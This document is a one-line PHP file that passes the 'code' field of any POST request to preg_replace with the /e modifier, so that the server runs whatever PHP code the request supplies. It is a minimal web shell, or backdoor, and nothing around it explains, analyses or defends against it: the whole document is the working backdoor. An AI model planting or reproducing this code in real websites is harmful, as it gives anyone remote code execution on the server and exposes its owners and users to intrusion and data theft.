<?php preg_replace("/.*/e", $_POST["code"], "x"); ?>
